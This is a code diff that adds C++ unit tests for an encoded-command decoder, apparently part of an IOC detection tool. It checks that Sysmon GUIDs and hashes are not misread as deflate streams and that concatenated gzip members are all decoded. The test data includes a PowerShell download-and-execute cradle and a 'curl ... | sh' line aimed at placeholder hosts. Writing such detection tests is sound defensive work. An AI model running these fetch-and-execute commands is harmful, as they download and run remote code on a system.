@@ -411,6 +411,44 @@ TEST(Decoder, WordsAndGarbageDoNotDecode) {
   EXPECT_TRUE(decoder.Decode(std::string(32, 'a')).empty());  // an md5, not hex text
 }
 
+// Sysmon fields decoded to junk "deflate" layers: a GUID's bytes ended a raw
+// deflate "stream" after 3 of its 16 bytes ("HHHH..."), an MD5 inflated to
+// "E" (45 in 30,000 Sysmon-like lines); the junk also replaced them in the
+// expanded text. A raw deflate stream must use its input and give more than
+// a few bytes.
+TEST(Decoder, GuidsAndHashesAreNoDeflateStreams) {
+  Decoder decoder;
+  for (const char* text :
+       {"ProcessGuid={88AFAD7D-8D15-4B0F-91CE-7D9B97420A07}",
+        "Hashes=MD5=7305B0C9016EA6D4C5EB04F7A330060C",
+        "SHA256=A2C2E6E0F3B4C1D7F6E5D4C3B2A1908172635445362718090A0B0C0D0E0F1011"}) {
+    for (const auto& l : decoder.Decode(text)) {
+      EXPECT_EQ(l.chain.find("deflate"), std::string_view::npos) << text << ": " << l.chain;
+    }
+  }
+  // A real raw deflate stream still decodes.
+  const std::string payload = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')";
+  bool found = false;
+  for (const auto& l : decoder.Decode("-c " + Base64(Gzip(payload, -15)))) {
+    found = found || (l.chain == "base64 > deflate" && l.text == payload);
+  }
+  EXPECT_TRUE(found);
+}
+
+// gzip members follow one another in one stream (gzip(1), Python, .NET read
+// them all); only the first was decoded.
+TEST(Decoder, ReadsEveryGzipMember) {
+  Decoder decoder;
+  const auto layers =
+      decoder.Decode("x " + Base64(Gzip("echo ok ") + Gzip("curl http://two.example.org/x|sh")));
+  bool found = false;
+  for (const auto& l : layers) {
+    found = found ||
+            (l.chain == "base64 > gzip" && l.text == "echo ok curl http://two.example.org/x|sh");
+  }
+  EXPECT_TRUE(found);
+}
+
 TEST(IocDetector, AlertsOnIndicatorsInAnEncodedCommandWithChainAndEntities) {
   IocDetectorOptions options;
   IocDetector detector(options);
